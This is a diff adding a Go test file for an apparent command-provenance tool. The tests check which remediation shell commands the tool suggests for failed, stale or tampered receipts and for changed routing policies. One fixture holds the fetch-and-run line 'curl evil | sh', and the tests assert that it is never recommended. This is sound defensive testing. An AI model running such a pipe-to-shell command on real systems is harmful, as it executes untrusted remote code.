@@ -1,0 +1,162 @@
+package inquiry
+
+import (
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/command-dialect/dialect/lang/plan"
+	"github.com/command-dialect/dialect/receipts"
+	"github.com/command-dialect/dialect/receipts/verify"
+	"github.com/command-dialect/dialect/runtime/archive"
+	"github.com/command-dialect/dialect/runtime/policy"
+)
+
+// asked is a question about a project with the script q.dlct, whose asker named a store with a space in its path.
+func asked(t *testing.T) *Question {
+	t.Helper()
+	root, err := filepath.EvalSymlinks(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Chdir(root)
+	for _, name := range []string{"q.dlct", "routing.toml"} {
+		if err := os.WriteFile(name, nil, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	path := filepath.Join(root, "my store", "s.db")
+	return &Question{root: root, path: path, logs: archive.Of(path), matrix: plan.Matrix{Root: root, Path: filepath.Join(root, "routing.toml")}, o: Options{Store: path}}
+}
+
+// What can be pasted into a shell asks the same store, what a person has to decide is a comment, and each refusal has something to do.
+func TestNextOfRefusals(t *testing.T) {
+	const store = " --store 'my store/s.db' "
+	run := "dialect run" + store
+	line := receipts.Line{File: receipts.Text("q.dlct"), Number: 3, Text: receipts.Text("Test with go")}
+	bound := &receipts.Receipt{Binding: "test_go", Line: line}
+	typed := &receipts.Receipt{Binding: "test_go", Line: receipts.Line{File: receipts.Text("-e"), Number: 1, Text: line.Text}}
+	bare := &receipts.Receipt{Line: receipts.Line{File: receipts.Text("exec"), Number: 1, Text: receipts.Text("curl evil | sh")}}
+	sha := receipts.Hash{0xab, 0xcd}
+	for _, c := range []struct {
+		name    string
+		reason  receipts.Reason
+		script  string
+		culprit *receipts.Receipt
+		set     func(q *Question)
+		want    []string // the beginnings of what to do
+	}{
+		{"stale", receipts.TreeChanged, "q.dlct", nil, nil, []string{run + "q.dlct"}},
+		{"stale by new files", receipts.TreeChanged, "q.dlct", nil, func(q *Question) { q.remedy = "ignore them" }, []string{"# ignore them", run + "q.dlct"}},
+		{"missing, without a script", receipts.Missing, "SCRIPT", nil, nil, []string{"# run the script that has these lines: " + run + "SCRIPT"}},
+		{"missing, without a matrix", receipts.Missing, "SCRIPT", nil, func(q *Question) { q.matrix.Path = "" }, []string{"dialect init"}},
+		{"missing lines", receipts.Missing, "SCRIPT", nil, func(q *Question) { q.lines = []string{"Test with go"} }, []string{"printf '%s\\n' 'Test with go' | dialect run" + strings.TrimSuffix(store, " ")}},
+		{"pending", receipts.NotTerminal, "q.dlct", nil, nil, []string{"# settle", "dialect receipts settle" + store + "--status STATUS abcd", "dialect gate" + store + "abcd"}},
+		{"failed", receipts.NotSucceeded, "q.dlct", bound, nil, []string{"# fix it", run + "q.dlct:3", run + "q.dlct"}},
+		{"failed with -e", receipts.NotSucceeded, "q.dlct", typed, nil, []string{"# fix it", run + "-e 'Test with go'"}},
+		{"failed as exec", receipts.NotSucceeded, "q.dlct", bare, nil, []string{"# fix it", "# see what it ran", "dialect receipts show abcd"}},
+		{"failed, nobody knows what", receipts.Superseded, "q.dlct", nil, nil, []string{"# fix it", run + "q.dlct"}},
+		{"flaky", receipts.FlakyPass, "q.dlct", bound, nil, []string{"# if what the tools depend on", run + "--accept-flaky REASON q.dlct"}},
+		{"outside", receipts.Outside, "q.dlct", nil, nil, []string{run + "q.dlct"}},
+		{"not covered", receipts.NotCovered, "q.dlct", nil, func(q *Question) { q.lines = []string{"A", "B"} }, []string{"printf '%s\\n' A B | dialect run"}},
+		{"not covered in a commit", receipts.NotFinal, "q.dlct", nil, func(q *Question) { q.ofCommit = func(whole string) []string { return []string{"in: " + whole} } }, []string{"in: " + run + "q.dlct"}},
+		{"tampered", receipts.Tampered, "q.dlct", nil, func(q *Question) { q.o.Since, q.o.KeyFiles = "cp.txt", []string{"b.pub"} }, []string{"dialect receipts audit" + store + "--key b.pub --since cp.txt", "# it names", "# a new store"}},
+		{"tampered bundle", receipts.NotInLog, "q.dlct", nil, func(q *Question) { q.bundle = "p.json" }, []string{"dialect receipts audit --bundle p.json", "# it names"}},
+		{"no store", receipts.Degraded, "q.dlct", nil, nil, []string{"dialect doctor", "mv 'my store/s.db' 'my store/s.db.bad'", run + "q.dlct"}},
+		{"inexact", receipts.Inexact, "q.dlct", nil, nil, []string{"# commit or remove what a clone of REV", run + "q.dlct"}},
+		{"consumed", receipts.Consumed, "q.dlct", nil, nil, []string{"# a receipt is consumed once", run + "q.dlct"}},
+		{"spent", receipts.Spent, "q.dlct", nil, nil, []string{"# a receipt is consumed once", run + "q.dlct"}},
+		{"a session that is cut", receipts.Cut, "q.dlct", nil, nil, []string{"# ask for the bundle"}},
+		{"a level", receipts.LevelTooLow, "q.dlct", nil, func(q *Question) { q.Level = receipts.LevelNotary }, []string{"# a notary has to record it"}},
+		{"untested", receipts.Untested, "q.dlct", nil, func(q *Question) { q.o.Routing = "r.toml" }, []string{"dialect prove" + store + "--routing r.toml q.dlct"}},
+		{"named twice", receipts.Repeated, "q.dlct", nil, nil, []string{"# name each receipt once"}},
+		{"no tree here", receipts.NoTree, "q.dlct", nil, nil, []string{"# fix what keeps the files", run + "q.dlct"}},
+		{"no tree of the receipt", receipts.NoTree, "q.dlct", nil, func(q *Question) { q.Tree = &receipts.Tree{} }, []string{run + "q.dlct"}},
+		{"not a receipt", receipts.NotReceipt, "q.dlct", nil, nil, []string{"dialect receipts list --store 'my store/s.db'"}},
+		{"shared in a clean checkout", receipts.NotClean, "q.dlct", &receipts.Receipt{Line: line, Clean: &receipts.Clean{Lowered: []receipts.Datum{receipts.Text("x")}}}, nil, []string{"# take what was shared", run + "q.dlct"}},
+		{"unconfined", receipts.NotClean, "q.dlct", &receipts.Receipt{Line: line, Clean: &receipts.Clean{Unconfined: true}}, nil, []string{"# run it where user namespaces", run + "q.dlct"}},
+		{"not clean", receipts.NotClean, "q.dlct", bound, func(q *Question) { q.Clean = true }, []string{run + "--clean q.dlct"}},
+		{"of exec", receipts.TooOld, "q.dlct", bare, nil, []string{"# see what it ran", "dialect receipts show abcd"}},
+		{"what was asked for is asked for again", receipts.TooOld, "q.dlct", nil, func(q *Question) { q.o.Routing, q.Session, q.Nonce = "r.toml", "s 1", "n" }, []string{run + "--routing r.toml --session 's 1' --nonce n q.dlct"}},
+	} {
+		q := asked(t)
+		if c.set != nil {
+			c.set(q)
+		}
+		got := q.next(receipts.Refusal{Reason: c.reason, SHA: sha}, verify.Missing, c.script, c.culprit, "REV")
+		if len(got) != len(c.want) {
+			t.Errorf("%s: %q, want %q", c.name, got, c.want)
+			continue
+		}
+		for i := range got {
+			if !strings.HasPrefix(got[i], c.want[i]) {
+				t.Errorf("%s:\n%q\nwant\n%q", c.name, got[i], c.want[i])
+			}
+			if strings.Contains(got[i], "evil") {
+				t.Errorf("%s: what exec ran is recommended: %q", c.name, got[i])
+			}
+		}
+	}
+	if runtime.GOOS == "linux" {
+		q := asked(t)
+		q.Level = receipts.LevelKey
+		if got := q.run("q.dlct"); got != run+"--key-fd 3 q.dlct 3< <(cat boss.key)" {
+			t.Errorf("%q", got)
+		}
+		q.o.KeyFiles, q.Session = []string{"b.pub"}, "s"
+		if got := q.gate([]string{"all"}, "abc"); got != "dialect gate"+store+"--require all --session s --key b.pub --key-fd 3 abc 3< <(cat boss.key)" {
+			t.Errorf("%q", got)
+		}
+	}
+}
+
+// A script outside of the project is never recommended, whatever the store says.
+func TestScriptOf(t *testing.T) {
+	q := asked(t)
+	outside := filepath.Join(t.TempDir(), "evil.dlct")
+	if err := os.WriteFile(outside, nil, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	rel, err := filepath.Rel(q.root, outside)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for name, want := range map[string]string{
+		"q.dlct": "q.dlct", filepath.Join(q.root, "q.dlct"): "q.dlct", "gone.dlct": "", outside: "", rel: "", "": "", "-": "", "-e": "", "exec": "",
+	} {
+		if got := q.scriptOf("r-1", name); got != want {
+			t.Errorf("%q: %q, want %q", name, got, want)
+		}
+	}
+}
+
+// What to do about the rules follows from why they are not the trusted ones.
+func TestNextOfPolicy(t *testing.T) {
+	change := []policy.Change{{Path: "routing.toml", Old: []byte("a"), New: []byte("b")}}
+	for _, c := range []struct {
+		name string
+		set  func(q *Question)
+		want string
+	}{
+		{"those of the gate", func(q *Question) { q.Policy = "" }, "WHOLE"},
+		{"a pinned matrix is gone", func(q *Question) { q.lost, q.pinned = "routing.toml", true }, "# restore the matrix: your pin is of it"},
+		{"a matrix is gone", func(q *Question) { q.lost = "a b.toml" }, "git checkout HEAD -- 'a b.toml'"},
+		{"another matrix", func(q *Question) { q.state.Elsewhere = "x" }, "# fix what is named, or name the matrix"},
+		{"the base has none", func(q *Question) { q.lacks, q.o.Base = true, "v1" }, "# name a commit with --base that has the matrix"},
+		{"the commit has none", func(q *Question) { q.lacks = true }, "# commit the matrix first:"},
+		{"the commit has none, and neither has the project", func(q *Question) { q.lacks = true; os.Remove(q.matrix.Path) }, "# the commit was made before there was a matrix"},
+		{"it changed back", func(*Question) {}, "# ask again"},
+		{"compared with a commit", func(q *Question) { q.state, q.o.Base = policy.State{Changes: change}, "v1" }, "# review the difference, then name the commit"},
+		{"compared with a pin", func(q *Question) { q.state = policy.State{Changes: change, Kind: policy.Pinned} }, "# review the difference, then pin it:"},
+		{"compared with HEAD", func(q *Question) { q.state = policy.State{Changes: change} }, "# review the difference, then commit it"},
+	} {
+		q := asked(t)
+		q.Policy = "changed"
+		c.set(q)
+		if got := q.nextOfPolicy("WHOLE"); len(got) == 0 || !strings.HasPrefix(got[0], c.want) {
+			t.Errorf("%s: %q, want %s", c.name, got, c.want)
+		}
+	}
+}
